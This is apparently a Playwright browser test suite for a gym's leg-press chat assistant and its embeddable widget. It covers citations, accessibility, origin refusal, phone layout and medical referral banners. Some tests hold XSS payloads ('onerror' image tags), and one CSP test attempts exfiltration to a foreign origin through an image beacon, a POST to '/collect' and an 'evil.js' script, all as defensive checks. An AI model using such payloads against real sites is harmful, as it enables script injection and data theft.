"""The Gradio chat and the embeddable widget in Debian's Chromium, against the real Assistant.

The sample gym page is served from a different origin (another port) than the assistant,
exactly as a gym's website would embed it; a third origin is not on the allow-list.
"""

from __future__ import annotations

import re
from pathlib import Path
from types import SimpleNamespace

import pytest
from browser_helpers import CHROMIUM, ServerThread, gym_site, launch_chromium

from assistant import messages
from assistant.server import create_app

playwright_api = pytest.importorskip("playwright.sync_api")
expect = playwright_api.expect

pytestmark = [
    pytest.mark.browser,
    pytest.mark.filterwarnings("ignore:::gradio.queueing"),  # Gradio's own pandas use
    pytest.mark.skipif(not Path(CHROMIUM).exists(), reason=f"needs Chromium at {CHROMIUM}"),
]

QUESTION = "How should I set up the seat on the leg press so my lower back stays on the pad?"
NUMB = "My right leg goes numb halfway through my leg press sets. Should I keep going?"
BLADDER = "Since my back went during leg press yesterday I can't control my bladder properly."
W = "legpress-assistant"  # the widget's host element; Playwright's CSS pierces its shadow root


@pytest.fixture(scope="module")
def servers(bot, settings, tmp_path_factory):
    """The assistant, the gym site (allowed origin) and another site (not allowed)."""
    site, stranger = ServerThread(), ServerThread()
    web = settings.model_copy(update={
        "allowed_origins": [site.url],
        "data_dir": tmp_path_factory.mktemp("web"),
        "rate_limit_per_minute": 0,
    })
    with ServerThread(create_app(bot, web)) as api:
        site.app = gym_site(api.url)
        stranger.app = gym_site(api.url)
        with site, stranger:
            yield SimpleNamespace(api=api.url, site=site.url, stranger=stranger.url)


@pytest.fixture(scope="module")
def browser():
    with playwright_api.sync_playwright() as pw:
        chromium = launch_chromium(pw)
        yield chromium
        chromium.close()


@pytest.fixture
def page(browser, servers):
    """A fresh page that records console errors, page errors, dialogs and every request."""
    context = browser.new_context(viewport={"width": 1100, "height": 800})
    pg = context.new_page()
    pg.errors, pg.dialogs, pg.requests = [], [], []
    pg.on("console", lambda m: pg.errors.append(m.text) if m.type == "error" else None)
    pg.on("pageerror", lambda e: pg.errors.append(str(e)))
    pg.on("dialog", lambda d: (pg.dialogs.append(d.message), d.dismiss()))
    pg.on("request", lambda r: pg.requests.append(r.url))
    yield pg
    context.close()


def only_local_requests(pg, *origins):
    strays = [u for u in pg.requests
              if not u.startswith(("data:", "blob:")) and not u.startswith(origins)]
    assert not strays, f"requests outside {origins}: {strays}"


def open_widget(pg, url):
    pg.goto(url)
    launcher = pg.locator(f"{W} .l")
    expect(launcher).to_be_visible()
    launcher.click()
    expect(pg.locator(f"{W} .p")).to_be_visible()


def ask_widget(pg, question):
    """Send a question and return the locator of the new assistant reply."""
    replies = pg.locator(f"{W} .b.a:not(.t)")
    before = replies.count()
    pg.locator(f"{W} textarea").fill(question)
    pg.locator(f"{W} textarea").press("Enter")
    expect(replies).to_have_count(before + 1, timeout=20_000)
    return replies.last


def safety_wired() -> bool:
    import importlib.util

    return importlib.util.find_spec("assistant.safety") is not None


# --- Gradio chat -----------------------------------------------------------------------


def test_gradio_chat_answers_with_citations(page, servers):
    page.goto(servers.api + "/")
    expect(page.get_by_text(messages.DISCLAIMER)).to_be_visible()
    box = page.get_by_placeholder(messages.UI_INPUT_PLACEHOLDER)
    box.fill(QUESTION)
    box.press("Enter")
    sources = page.get_by_text(re.compile(rf"^{messages.SOURCES_LABEL} \(\d+\)$"))
    expect(sources).to_be_visible(timeout=20_000)
    bot_text = page.locator(".bot").first.inner_text()
    assert re.search(r"\[\d+\]", bot_text), bot_text
    sources.click()
    expect(page.locator(".bot blockquote").first).to_be_visible()
    expect(page.get_by_text(re.compile(r"^\[1\] "))).to_be_visible()

    page.get_by_role("button", name="Like", exact=True).first.click()
    counts = None
    for _ in range(50):
        counts = page.request.get(servers.api + "/api/feedback").json()
        if counts["answer"]["up"]:
            break
        page.wait_for_timeout(100)
    assert counts["answer"]["up"] == 1
    only_local_requests(page, servers.api)
    assert not page.errors, page.errors


def test_the_chat_page_may_load_and_send_nothing_to_another_origin(page, servers):
    """The page's CSP (issue 12): an image or a request to another origin is refused, so
    nothing on the page could carry a member's words elsewhere. (The chat itself works
    under it with no console error: test_gradio_chat_answers_with_citations.)"""
    page.goto(servers.api + "/")
    expect(page.get_by_text(messages.DISCLAIMER)).to_be_visible()
    blocked = page.evaluate("""async (elsewhere) => {
      const seen = [];
      document.addEventListener("securitypolicyviolation", (e) => seen.push(e.effectiveDirective));
      const img = new Image();
      img.src = elsewhere + "/pixel.png?q=numb";
      document.body.append(img);
      try { await fetch(elsewhere + "/collect", { method: "POST", body: "numb" }); } catch (_) {}
      const s = document.createElement("script");
      s.src = elsewhere + "/evil.js";
      document.body.append(s);
      await new Promise((r) => setTimeout(r, 500));
      return seen;
    }""", servers.stranger)
    assert {"img-src", "connect-src", "script-src-elem"} <= set(blocked), blocked
    page.errors.clear()  # the refusals above are logged as console errors, as they should be


def test_html_in_a_gradio_question_is_shown_as_text_and_runs_nothing(page, servers):
    page.goto(servers.api + "/")
    question = "<img src=x onerror=window.pwned=1> <b>leg press</b> seat height?"
    box = page.get_by_placeholder(messages.UI_INPUT_PLACEHOLDER)
    box.fill(question)
    box.press("Enter")
    expect(page.get_by_text(re.compile(rf"^{messages.SOURCES_LABEL} \(\d+\)$"))).to_be_visible(
        timeout=20_000)
    user = page.locator(".user").first
    expect(user).to_contain_text("<img src=x onerror=window.pwned=1> <b>leg press</b>")
    assert user.locator("img, b").count() == 0
    assert page.evaluate("window.pwned") is None
    assert not any(u.endswith("/x") for u in page.requests)
    assert not page.errors, page.errors


# --- widget ----------------------------------------------------------------------------


def test_widget_loads_light_opens_and_answers_with_citations(page, servers):
    sizes = {}
    page.on("response", lambda r: sizes.setdefault(r.url, r) if "widget.js" in r.url else None)
    page.goto(servers.site)
    expect(page.locator(f"{W} .l")).to_be_visible()
    # Nothing but the script itself before the panel is opened.
    assert [u for u in page.requests if u.startswith(servers.api)] == [servers.api + "/widget.js"]
    assert page.locator(f"{W} .p").count() == 0
    (response,) = sizes.values()
    assert len(response.body()) <= 20_000

    page.locator(f"{W} .l").click()
    expect(page.get_by_role("dialog")).to_be_visible()
    expect(page.locator(f"{W} .d")).to_have_text(messages.DISCLAIMER)
    reply = ask_widget(page, QUESTION)
    markers = reply.locator(".c")
    expect(markers.first).to_be_visible()
    details = reply.locator("details")
    assert details.count() >= 1
    first_passage = details.first.locator("blockquote")
    expect(first_passage).to_be_hidden()
    markers.first.click()
    expect(first_passage).to_be_visible()
    assert len(first_passage.inner_text()) > 40

    reply.get_by_role("button", name=messages.UI_HELPFUL, exact=True).click()
    expect(reply.get_by_text(messages.UI_FEEDBACK_THANKS)).to_be_visible()

    # The conversation survives a page load on the same site.
    page.reload()
    expect(page.locator(f"{W} .b.u")).to_have_text([QUESTION])
    expect(page.locator(f"{W} .b.a .c").first).to_be_visible()
    only_local_requests(page, servers.site, servers.api)
    assert not page.errors, page.errors


def test_widget_is_keyboard_accessible(page, servers):
    page.goto(servers.site)
    launcher = page.get_by_role("button", name=re.compile(messages.UI_OPEN))
    launcher.focus()
    page.keyboard.press("Enter")
    dialog = page.get_by_role("dialog", name="Ask Riverside about leg press pain")
    expect(dialog).to_be_visible()
    textbox = page.get_by_role("textbox", name=messages.UI_INPUT_LABEL)
    expect(textbox).to_be_focused()
    expect(page.locator(f"{W} [role=log]")).to_have_attribute("aria-live", "polite")
    expect(page.get_by_role("button", name=messages.UI_CLOSE)).to_be_visible()
    expect(page.get_by_role("button", name=messages.UI_SEND)).to_be_visible()
    page.keyboard.type("What is a good warm-up before heavy leg press?")
    page.keyboard.press("Enter")
    expect(page.locator(f"{W} .b.a:not(.t)")).to_have_count(2, timeout=20_000)
    expect(textbox).to_be_focused()
    page.keyboard.press("Escape")
    expect(dialog).to_be_hidden()
    expect(launcher).to_be_focused()
    expect(launcher).to_have_attribute("aria-expanded", "false")
    assert not page.errors, page.errors


@pytest.mark.xfail(not safety_wired(), reason="safety layer not wired yet")
def test_widget_shows_the_professional_banner_for_numbness(page, servers):
    open_widget(page, servers.site)
    reply = ask_widget(page, NUMB)
    banner = reply.locator(".bn")
    expect(banner).to_have_class(re.compile(r"\bpro\b"))
    expect(banner).to_contain_text(messages.BANNER_PROFESSIONAL)
    expect(reply).to_contain_text("doctor or physiotherapist")
    assert not page.errors, page.errors


@pytest.mark.xfail(not safety_wired(), reason="safety layer not wired yet")
def test_widget_shows_the_emergency_banner_for_loss_of_bladder_control(page, servers):
    open_widget(page, servers.site)
    reply = ask_widget(page, BLADDER)
    banner = reply.locator(".bn")
    expect(banner).to_have_class(re.compile(r"\bem\b"))
    expect(banner).to_contain_text(messages.BANNER_EMERGENCY)
    assert reply.locator(".c").count() >= 1, "the red-flag guidance is cited"
    assert not page.errors, page.errors


def test_widget_survives_hostile_host_css(page, servers):
    open_widget(page, servers.site + "/hostile")
    launcher = page.locator(f"{W} .l").bounding_box()
    assert 50 <= launcher["width"] <= 70 and 50 <= launcher["height"] <= 70
    panel = page.locator(f"{W} .p").bounding_box()
    assert panel["width"] == pytest.approx(380, abs=2)
    assert panel["x"] + panel["width"] <= 1100 and panel["y"] >= 0
    size = page.locator(f"{W} textarea").evaluate("e => getComputedStyle(e).fontSize")
    assert size == "16px"
    reply = ask_widget(page, QUESTION)
    expect(reply.locator(".c").first).to_be_visible()
    expect(page.locator(f"{W} form")).to_be_visible()
    assert not page.errors, page.errors


def test_html_in_a_question_is_shown_as_text_and_runs_nothing(page, servers):
    open_widget(page, servers.site)
    question = "<img src=x onerror=alert(1)><img src=y onerror=window.pwned=1> leg press seat?"
    ask_widget(page, question)
    expect(page.locator(f"{W} .b.u").last).to_have_text(question)
    assert page.locator(f"{W} img").count() == 0
    assert page.evaluate("window.pwned") is None
    assert not page.dialogs
    assert not any(u.endswith(("/x", "/y")) for u in page.requests)
    assert not page.errors, page.errors


def test_a_disallowed_origin_is_refused(page, servers):
    open_widget(page, servers.stranger)
    reply = ask_widget(page, QUESTION)
    # Not "check your connection": the member is told the site is not set up, and the
    # console tells the gym's admin which setting to change.
    expect(reply).to_have_text(messages.UI_REFUSED_ORIGIN)
    assert any("ASSISTANT_ALLOWED_ORIGINS" in e and servers.stranger in e for e in page.errors)
    # A direct call from this origin fails too: no CORS grant, and the POST itself is refused.
    outcome = page.evaluate("""url => fetch(url, {method: 'POST',
        headers: {'Content-Type': 'application/json'}, body: '{"message": "hi"}'})
        .then(r => 'read ' + r.status, e => 'blocked')""", servers.api + "/api/ask")
    assert outcome == "blocked"
    refused = page.request.post(servers.api + "/api/ask", data={"message": QUESTION},
                                headers={"Origin": servers.stranger})
    assert refused.status == 403


def test_widget_options_from_data_attributes(page, servers):
    page.goto(servers.site + "/options")
    panel = page.locator(f"{W} .p")
    expect(panel).to_be_visible()  # data-open
    expect(page.locator(f"{W} textarea")).not_to_be_focused()  # opening on load steals no focus
    box = panel.bounding_box()
    assert box["x"] == pytest.approx(20, abs=1), "data-position=bottom-left"
    title = page.locator(f"{W} h2")
    expect(title).to_have_text("Ask Riverside about leg press pain")  # data-title
    # An accent that is not a colour falls back to the default (and injects nothing).
    header = page.locator(f"{W} .h").evaluate("e => getComputedStyle(e).backgroundColor")
    assert header == "rgb(15, 118, 110)"
    assert not page.errors, page.errors


def test_widget_is_full_screen_on_a_phone(browser, servers):
    context = browser.new_context(viewport={"width": 375, "height": 667}, is_mobile=True,
                                  has_touch=True)
    pg = context.new_page()
    try:
        open_widget(pg, servers.site)
        box = pg.locator(f"{W} .p").bounding_box()
        assert (box["x"], box["y"], box["width"], box["height"]) == (0, 0, 375, 667)
        expect(pg.locator(f"{W} .l")).to_be_hidden()
        pg.get_by_role("button", name=messages.UI_CLOSE).click()
        expect(pg.locator(f"{W} .l")).to_be_visible()
    finally:
        context.close()


def test_a_network_failure_is_told_apart_from_a_refused_origin(page, servers):
    open_widget(page, servers.site)
    page.route("**/api/ask", lambda route: route.abort())
    page.route("**/healthz", lambda route: route.abort())
    expect(ask_widget(page, QUESTION)).to_have_text(messages.UI_UNREACHABLE)


def _phone(browser):
    return browser.new_context(viewport={"width": 390, "height": 844}, is_mobile=True,
                               has_touch=True)


REFERRALS = pytest.mark.parametrize("message, route", [(BLADDER, "emergency"), (NUMB, "professional")])


@REFERRALS
def test_widget_keeps_the_referral_banner_and_first_line_in_view_on_a_phone(
        browser, servers, message, route):
    context = _phone(browser)
    pg = context.new_page()
    try:
        open_widget(pg, servers.site)
        ask_widget(pg, QUESTION)  # some history above, as in a real chat
        reply = ask_widget(pg, message)
        banner = reply.locator(".bn." + ("em" if route == "emergency" else "pro"))
        expect(banner).to_be_visible()
        log = pg.locator(f"{W} .m").bounding_box()
        first_line = reply.locator("p").first  # the reply's first line, under the banner
        for part in (banner, first_line):
            box = part.bounding_box()
            assert log["y"] <= box["y"] and box["y"] + min(box["height"], 40) <= \
                log["y"] + log["height"], (route, box, log)
    finally:
        context.close()


@REFERRALS
def test_gradio_keeps_the_referral_banner_and_first_line_in_view_on_a_phone(
        browser, servers, message, route):
    context = _phone(browser)
    pg = context.new_page()
    try:
        pg.goto(servers.api + "/")
        box = pg.get_by_placeholder(messages.UI_INPUT_PLACEHOLDER)
        box.fill(QUESTION)  # some history above, as in a real chat
        box.press("Enter")
        sources = pg.get_by_text(re.compile(rf"^{messages.SOURCES_LABEL} \(\d+\)$"))
        expect(sources.first).to_be_visible(timeout=20_000)
        box = pg.locator("textarea").first  # the placeholder goes once the chat has begun
        box.fill(message)
        box.press("Enter")
        banner = pg.locator(f".route-banner.route-{route}").last
        expect(banner).to_be_visible(timeout=30_000)
        pg.wait_for_timeout(1500)  # Gradio's own scroll, then ours
        top = banner.evaluate("e => e.getBoundingClientRect().top")
        assert 0 <= top < 844 - 40, f"the {route} banner is out of view (top {top})"
        # The first line of the reply follows the banner, and is in view too.
        line = banner.evaluate(
            "e => { const n = e.nextElementSibling; return n ? n.getBoundingClientRect().top : -1 }")
        assert 0 <= line < 844 - 40, f"the {route} reply's first line is out of view (top {line})"
    finally:
        context.close()
